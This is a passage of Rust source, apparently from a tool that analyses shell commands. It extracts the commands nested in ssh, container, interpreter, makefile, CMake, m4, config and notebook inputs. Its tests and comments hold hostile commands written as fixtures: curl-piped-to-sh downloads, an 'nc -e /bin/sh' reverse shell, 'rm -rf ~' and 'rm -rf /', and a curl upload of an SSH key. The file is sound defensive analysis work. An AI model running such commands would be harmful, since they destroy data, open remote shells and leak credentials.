    input: Option<&Word>,
    push: &mut Push,
) {
    let mut dirs: Vec<(&Word, &str)> = Vec::new();
    for (i, a) in args.iter().enumerate() {
        match a.text.strip_prefix("-I") {
            Some("") if lang == Lang::Ruby => {
                if let Some(d) = args.get(i + 1) {
                    dirs.push((d, d.text.as_str()));
                }
            }
            Some(d) if !d.is_empty() => dirs.push((a, d)),
            _ => {}
        }
    }
    if dirs.is_empty() {
        return;
    }
    let code = args
        .iter()
        .position(|a| spec.flags.contains(&a.text))
        .and_then(|i| args.get(i + 1))
        .or(input)
        .map(|w| w.text.as_str())
        .unwrap_or("");
    static IMPORTS: std::sync::OnceLock<[regex::Regex; 3]> = std::sync::OnceLock::new();
    let [python, js, ruby] = IMPORTS.get_or_init(|| {
        [
            regex::Regex::new(r"(?m)(?:^|;)\s*(?:from\s+([\w.]+)\s+import|import\s+([\w.]+))")
                .expect("static regex"),
            regex::Regex::new(r#"(?:require\s*\(|import\s*\(|from)\s*["']([\w@.-][\w@./-]*)["']"#)
                .expect("static regex"),
            regex::Regex::new(r#"(?:require|load)\s*\(?\s*["']([\w./-]+)["']"#)
                .expect("static regex"),
        ]
    });
    let re = match lang {
        Lang::Python => python,
        Lang::JavaScript => js,
        _ => ruby,
    };
    let modules: Vec<String> = re
        .captures_iter(code)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .map(|m| m.as_str().to_string())
        .filter(|m| !m.starts_with('.') && !m.starts_with('/'))
        .take(16)
        .collect();
    for (word, dir) in dirs {
        let dir = dir.trim_end_matches('/');
        for m in &modules {
            let files = match lang {
                Lang::Python => {
                    let m = m.replace('.', "/");
                    vec![format!("{dir}/{m}.py"), format!("{dir}/{m}/__init__.py")]
                }
                Lang::JavaScript => vec![format!("{dir}/{m}.js"), format!("{dir}/{m}/index.js")],
                _ => vec![format!("{dir}/{m}.rb")],
            };
            for f in files {
                push(
                    Code::File(part(word, &f), Format::Code(lang)),
                    Place::default(),
                );
            }
        }
    }
}

/// PowerShell's `-EncodedCommand`: base64 of UTF-16LE text.
fn decode_utf16_base64(s: &str) -> Option<String> {
    let bytes = crate::text::base64::decode(s.trim())?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

fn remote(spec: &SinkSpec, program: &str, args: &[Word], input: Option<&Word>, push: &mut Push) {
    // `tsh ssh HOST CMD`: the host follows the subcommand.
    let Some(start) = subcommand_ok(spec, args) else {
        return;
    };
    let args = &args[start..];
    let Some(host) = first_positional(args, &spec.value_options) else {
        return;
    };
    if args.iter().any(|a| a.text == "-N" || a.text == "-W") {
        return;
    }
    let label = match &spec.runs {
        Some(runs) => format!("{runs} ({})", args[host].text),
        None => format!("on host {} via {program}", args[host].text),
    };
    let place = Place {
        label: Some(label),
        ..Place::default()
    };
    let mut rest = &args[host + 1..];
    // OpenSSH reads options after the host too (`ssh prod -p 2222 -t 'cmd'`), up to the command.
    if let Some(skip) = first_positional(rest, &spec.value_options) {
        rest = &rest[skip..];
    } else if rest.first().is_some_and(|a| a.text.starts_with('-')) {
        rest = &[];
    }
    if rest.is_empty() {
        // `ssh host <<EOF`: the remote shell reads its commands from stdin.
        if let Some(w) = input {
            push(text(w.clone()), place);
        }
        return;
    }
    if program == "mosh" {
        // mosh-server runs the command's argv itself; ssh hands one joined line to a shell.
        push(Code::Argv(rest.to_vec()), place);
        return;
    }
    let lang = Lang::parse(spec.lang.as_deref());
    push(Code::Text(lang, super::nested::join_words(rest)), place);
}

fn container(spec: &SinkSpec, args: &[Word], push: &mut Push) {
    let mut i = 0;
    // Global options, then `run`/`exec` or `container run|exec`.
    while i < args.len() && args[i].text.starts_with('-') {
        i += if matches!(
            args[i].text.as_str(),
            "-H" | "--host"
                | "--context"
                | "-c"
                | "--config"
                // nerdctl's containerd namespace, crictl's endpoints.
                | "-n"
                | "--namespace"
                | "-a"
                | "--address"
                | "-r"
                | "--runtime-endpoint"
                | "-i"
                | "--image-endpoint"
                | "-t"
                | "--timeout"
        ) {
            2
        } else {
            1
        };
    }
    if args
        .get(i)
        .is_some_and(|a| a.text == "container" || a.text == "compose")
    {
        i += 1;
        while i < args.len() && args[i].text.starts_with('-') {
            i += if matches!(
                args[i].text.as_str(),
                "-f" | "--file" | "-p" | "--project-name"
            ) {
                2
            } else {
                1
            };
        }
    }
    let Some(verb) = args.get(i).map(|a| a.text.as_str()) else {
        return;
    };
    if !spec.subcommands.iter().any(|s| s == verb) {
        return;
    }
    let run = verb.ends_with("run");
    let rest = &args[i + 1..];
    let mut mounts = Vec::new();
    let mut workdir: Option<String> = None;
    let mut entrypoint: Option<Word> = None;
    let mut j = 0;
    while j < rest.len() {
        let a = rest[j].text.as_str();
        if a == "--" {
            j += 1;
            break;
        }
        if !a.starts_with('-') || a == "-" {
            break;
        }
        let (name, inline) = match a.split_once('=') {
            Some((n, v)) if a.starts_with("--") => (n, Some(v.to_string())),
            _ => (a, None),
        };
        let takes = spec.value_options.iter().any(|o| o == name);
        let value = match (&inline, takes) {
            (Some(v), _) => Some(v.clone()),
            (None, true) => {
                j += 1;
                rest.get(j).map(|w| w.text.clone())
            }
            _ => None,
        };
        // A privileged container sees every device of the host under its own /dev.
        if a == "--privileged" || a == "--privileged=true" {
            mounts.push(("/dev".to_string(), "/dev".to_string()));
        }
        if let Some(v) = value {
            if matches!(name, "-w" | "--workdir") {
                workdir = Some(v.clone());
            }
            if name == "--entrypoint" && run && !v.is_empty() {
                entrypoint = Some(Word {
                    text: v.clone(),
                    ..rest[j].clone()
                });
            }
            if name == "--device" {
                // `--device /dev/sda:/dev/x`: the host disk under another name inside.
                let mut parts = v.split(':');
                if let Some(src) = parts.next().filter(|s| s.starts_with("/dev/")) {
                    let dst = parts.next().filter(|d| d.starts_with('/')).unwrap_or(src);
                    mounts.push((dst.to_string(), src.to_string()));
                }
            } else if matches!(name, "-v" | "--volume") {
                let mut parts = v.split(':');
                if let (Some(src), Some(dst)) = (parts.next(), parts.next()) {
                    if src.starts_with('/') || src.starts_with('~') || src.starts_with('$') {
                        mounts.push((dst.to_string(), src.to_string()));
                    }
                }
            } else if name == "--mount" {
                let mut src = None;
                let mut dst = None;
                for kv in v.split(',') {
                    match kv.split_once('=') {
                        Some(("source" | "src", s)) => src = Some(s.to_string()),
                        Some(("target" | "destination" | "dst", d)) => dst = Some(d.to_string()),
                        _ => {}
                    }
                }
                if let (Some(s), Some(d)) = (src, dst) {
                    mounts.push((d, s));
                }
            }
        }
        j += 1;
    }
    // IMAGE (run) or CONTAINER (exec), then the command.
    let Some(target) = rest.get(j) else { return };
    let mut cmd = rest[j + 1..].to_vec();
    // `docker run --entrypoint sh IMAGE -c CODE`: the words after the image are the
    // entrypoint's arguments.
    if let Some(program) = entrypoint {
        cmd.insert(0, program);
    }
    if cmd.is_empty() {
        return;
    }
    // `docker run curlimages/curl -T /h/.ssh/id_rsa URL`: options first means the image's own
    // program (named like the image: curl, wget, git, aws…) receives them.
    if run && cmd[0].text.starts_with('-') {
        let image = target.text.rsplit('/').next().unwrap_or("");
        let program = image.split([':', '@']).next().unwrap_or("");
        let program = program.strip_suffix("-cli").unwrap_or(program);
        if !program.is_empty()
            && program
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-')
        {
            cmd.insert(
                0,
                Word {
                    text: program.to_string(),
                    span: target.span,
                    ..Word::default()
                },
            );
        }
    }
    let mut label = if run {
        format!("inside a new container of {}", target.text)
    } else {
        format!("inside container {}", target.text)
    };
    if let Some(root) = mounts.iter().find(|(_, h)| h == "/") {
        label.push_str(&format!(" with the host's / mounted at {}", root.0));
    }
    let mut place = Place {
        label: Some(label),
        mounts,
        isolated: run,
        ..Place::default()
    };
    place.cwd = workdir.map(|mut w| {
        place.map_path(&mut w);
        w
    });
    push(Code::Argv(cmd), place);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_fields_of_option_values() {
        let fields = vec!["job".to_string(), "commands".to_string()];
        assert_eq!(
            field_values("name=x minute=0 job='curl -s h | sh'", &fields),
            vec!["curl -s h | sh"]
        );
        assert_eq!(
            field_values(r#"commands=["a b", "c|d"]"#, &fields),
            vec!["a b\nc|d"]
        );
        assert_eq!(
            field_values(r#"{"x": {"commands": ["id"]}, "job": "ls"}"#, &fields),
            vec!["id", "ls"]
        );
        assert!(field_values("name=x state=absent", &fields).is_empty());
        assert!(field_values("{not json", &fields).is_empty());
        // Quotes the shell already removed: the value runs to the next `KEY=` word.
        assert_eq!(field_values("commands=rm -rf /", &fields), vec!["rm -rf /"]);
        assert_eq!(
            field_values("name=x job=rm -rf /srv minute=5", &fields),
            vec!["rm -rf /srv"]
        );
    }

    #[test]
    fn perl_preloads_read_flags_of_any_character() {
        let w = |t: &str| Word {
            text: t.to_string(),
            ..Word::default()
        };
        let mut files: Vec<String> = Vec::new();
        let mut push = |code: Code, _: Place| {
            if let Code::File(f, _) = code {
                files.push(f.text);
            }
        };
        // A flag whose letter is not ASCII is no preload (and no panic).
        perl_preloads(&[w("-é"), w("-e1")], &mut push);
        perl_preloads(&[w("-I/tmp"), w("-MX::Y"), w("-e1")], &mut push);
        perl_preloads(
            &[w("-I"), w("lib"), w("-M"), w("Helper"), w("-e1")],
            &mut push,
        );
        assert_eq!(files, vec!["/tmp/X/Y.pm", "lib/Helper.pm"]);
    }
}

#[cfg(test)]
mod script_format_tests {
    use super::*;

    #[test]
    fn client_scripts_give_their_shell_escape_lines() {
        let gdb = "set pagination off\n!rm -rf ~\n  shell id\nbreak main\nquit\n";
        assert_eq!(
            Format::Escapes.command_lines(gdb).as_deref(),
            Some("rm -rf ~\nid\n")
        );
        let sql = "select 1;\n\\! curl -s x | sh\n.shell id\n";
        assert_eq!(
            Format::Escapes.command_lines(sql).as_deref(),
            Some("curl -s x | sh\nid\n")
        );
        assert_eq!(
            Format::Escapes
                .command_lines("b main\nrun\nbt\n")
                .as_deref(),
            Some("")
        );
    }

    #[test]
    fn ssh_configs_give_their_commands() {
        let cfg = "Host *\n  ProxyCommand sh -c \"id\"\n  LocalCommand=rm -rf ~\nMatch exec \"curl x | sh\"\n  ProxyJump bastion\n";
        assert_eq!(
            Format::SshConfig.command_lines(cfg).as_deref(),
            Some("sh -c \"id\"\nrm -rf ~\ncurl x | sh\n")
        );
        assert_eq!(
            Format::SshConfig
                .command_lines("Host a\n  HostName 10.0.0.1\n  User me\n")
                .as_deref(),
            Some("")
        );
    }
}

#[cfg(test)]
mod make_goal_tests {
    use super::*;

    fn words(args: &[&str]) -> Vec<Word> {
        args.iter().map(|a| Word::literal(*a, (0, 0))).collect()
    }

    #[test]
    fn goals_skip_options_values_and_assignments() {
        assert_eq!(
            make_goals(&words(&[
                "-j", "4", "-C", "sub", "CC=clang", "build", "test"
            ])),
            ["build", "test"]
        );
        assert_eq!(make_goals(&words(&["-j", "all"])), ["all"]);
        assert!(make_goals(&words(&["-f", "Makefile.ci"])).is_empty());
    }

    #[test]
    fn only_the_recipes_of_the_goals_and_their_prerequisites_run() {
        let mk = "X := 1\nall: lib\n\tcc main.c\nlib:\n\tcc lib.c\ntools:\n\tcurl x | sh\nrelease:\n\t$(MAKE) tools\n";
        let default = makefile_recipes_for(mk, &[]);
        assert!(default.contains("cc main.c") && default.contains("cc lib.c"));
        assert!(!default.contains("curl"), "{default}");
        let tools = makefile_recipes_for(mk, &["tools".into()]);
        assert!(
            tools.contains("curl") && !tools.contains("cc main.c"),
            "{tools}"
        );
        // `$(MAKE) tools` inside a recipe asks for that goal as well.
        assert!(makefile_recipes_for(mk, &["release".into()]).contains("curl"));
        // A makefile this reading cannot follow gives every recipe.
        let pattern = "%.o: %.c\n\trm -rf ~\nall: a.o\n\techo\n";
        assert!(makefile_recipes_for(pattern, &[]).contains("rm -rf ~"));
        let included = "include other.mk\nall:\n\techo\nx:\n\trm -rf ~\n";
        assert!(makefile_recipes_for(included, &[]).contains("rm -rf ~"));
    }
}

#[cfg(test)]
mod cmake_m4_tests {
    use super::*;

    #[test]
    fn cmake_calls_become_command_lines() {
        let script = "# build helper\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE rev\n  COMMAND sh -c \"rm -rf ~/x\")\nexec_program(/bin/sh ARGS -c id)\nfile(REMOVE_RECURSE \"$ENV{HOME}/\" ${CMAKE_BINARY_DIR}/gen)\nmy_file(REMOVE_RECURSE /)\nmessage(STATUS \"rm -rf /\")\n";
        let lines = Format::CMake.command_lines(script).unwrap();
        let lines: Vec<&str> = lines.lines().collect();
        assert_eq!(
            lines,
            [
                "git rev-parse HEAD",
                "sh -c \"rm -rf ~/x\"",
                "/bin/sh -c id",
                "rm -rf -- ${HOME}/ CMAKE_BINARY_DIR/gen",
            ]
        );
    }

    #[test]
    fn m4_system_macros_become_command_lines() {
        let text = "define(V, esyscmd(`git describe'))dnl\nsyscmd(rm -rf $(echo ~))\nsystem(x)\n";
        let lines = Format::M4.command_lines(text).unwrap();
        let lines: Vec<&str> = lines.lines().collect();
        assert_eq!(lines, ["git describe", "rm -rf $(echo ~)"]);
    }
}

#[cfg(test)]
mod config_format_tests {
    use super::*;

    #[test]
    fn container_specs_hold_one_argv_and_task_lists_several_commands() {
        let pod = "spec:\n  containers:\n  - name: c\n    command: [\"sh\", \"-c\", \"curl -s x.example | sh\"]\n";
        let lines = Format::Lines.command_lines(pod).unwrap();
        assert!(lines.contains("sh -c 'curl -s x.example | sh'"), "{lines}");
        let compose = "    entrypoint: [\"/bin/sh\",\"-c\",\"nc h 9 -e /bin/sh\"]\n";
        let lines = Format::Lines.command_lines(compose).unwrap();
        assert_eq!(lines.trim(), "/bin/sh -c 'nc h 9 -e /bin/sh'");
        let tasks = "    cmds: [\"make a\", \"make b\"]\n";
        let lines = Format::Lines.command_lines(tasks).unwrap();
        assert_eq!(lines.lines().collect::<Vec<_>>(), ["make a", "make b"]);
        let tox = "[testenv]\ncommands_pre = bash -c 'id'\n";
        assert!(Format::Lines
            .command_lines(tox)
            .unwrap()
            .contains("bash -c 'id'"));
    }

    #[test]
    fn notebooks_give_shell_lines_and_the_python_of_their_cells() {
        let nb = r#"{"cells":[{"cell_type":"markdown","source":"!not code"},{"cell_type":"code","source":["import os\n","!curl -s x.example | sh\n","%matplotlib inline\n","os.system('id')"]},{"cell_type":"code","source":"%%bash\nrm -rf build"}]}"#;
        let text = Format::Notebook.command_lines(nb).unwrap();
        assert!(
            text.starts_with("curl -s x.example | sh\nrm -rf build\n"),
            "{text}"
        );
        assert!(text.contains("python3 - <<'HERMES_NOTEBOOK_EOF'\nimport os\nos.system('id')\nHERMES_NOTEBOOK_EOF"), "{text}");
        assert!(!text.contains("not code") && !text.contains("matplotlib"));
        assert_eq!(Format::Notebook.command_lines("not json"), None);
    }
}
